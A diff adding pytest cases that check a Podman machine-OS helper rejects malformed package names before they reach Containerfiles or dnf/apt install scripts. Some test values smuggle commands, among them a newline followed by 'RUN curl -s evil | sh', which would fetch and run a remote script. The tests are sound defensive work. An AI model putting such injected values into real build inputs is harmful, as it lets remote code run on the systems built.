@@ -169,6 +169,26 @@ def test_package_names_are_checked(bad):
         MO.check_packages(['ok', bad])
 
 
+@pytest.mark.parametrize('bad', ['pkg\n', 'pkg\nRUN curl -s evil | sh', 'pkg\r', 'p\u0661kg', 'pk\u0261'])
+def test_package_names_are_matched_whole_and_ascii(bad):
+    with pytest.raises(MO.MachineOSError, match='packages: ') as err:
+        MO.check_packages(['ok', bad])
+    assert repr(bad) in str(err.value)
+
+
+@pytest.mark.parametrize('make', [
+    lambda bad: MO.derived_containerfile('quay.io/podman/machine-os:5.4', ['ok', bad]),
+    lambda bad: MO.install_script('dnf', ['ok', bad]),
+    lambda bad: MO.install_script('apt', [bad]),
+    lambda bad: MO.probe_script([bad]),
+])
+def test_what_goes_into_a_containerfile_or_script_is_checked_there_too(make):
+    with pytest.raises(MO.MachineOSError, match='packages: '):
+        make('pkg\nRUN evil')
+    with pytest.raises(MO.MachineOSError, match='packages: '):
+        make('a"b')
+
+
 def test_ssh_argv_survives_the_guest_shell():
     """What podman machine ssh hands to the guest's shell, run by a real sh here."""
     script = 'echo "a b"; echo \'$HOME\'; printf "%s\\n" "it\'s"'
